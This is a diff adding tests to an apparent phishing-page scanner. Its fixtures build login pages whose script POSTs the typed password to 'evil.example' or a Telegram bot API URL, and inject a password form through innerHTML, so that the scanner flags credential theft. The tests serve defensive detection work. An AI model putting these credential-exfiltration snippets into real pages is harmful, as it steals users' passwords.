@@ -215,3 +215,19 @@ test('reports the line of the form and of the field', () => {
   ])
   expect(scan(html).findings[1]?.excerpt).toStartWith('<input type=password name=pass>')
 })
+
+test('signing in at an API is no phishing, since the sandbox stops it', () => {
+  const page = (url: string) =>
+    `<h2>Sign in</h2>${login}${script(`fetch('${url}', { method: 'POST', body: pass.value })`)}`
+  for (const url of ['https://api.shop.example/login', 'https://shop.example/api/v1/session']) {
+    expect(codesOf(page(url))).toEqual(['net.external'])
+  }
+  expect(codesOf(page('https://evil.example/c'))).toContain('phish.credential_form')
+  expect(codesOf(page('https://api.telegram.org/bot1/x'))).toContain('phish.credential_form')
+})
+
+test('an attack that a page shows is no attack, unless it is inserted', () => {
+  const attack = '`<form action="https://e.example"><p>${hi}</p><input type="password"></form>`'
+  expect(codesOf(script(`code.textContent = ${attack}`))).toEqual([])
+  expect(codesOf(script(`code.innerHTML = ${attack}`))).toContain('phish.credential_form')
+})
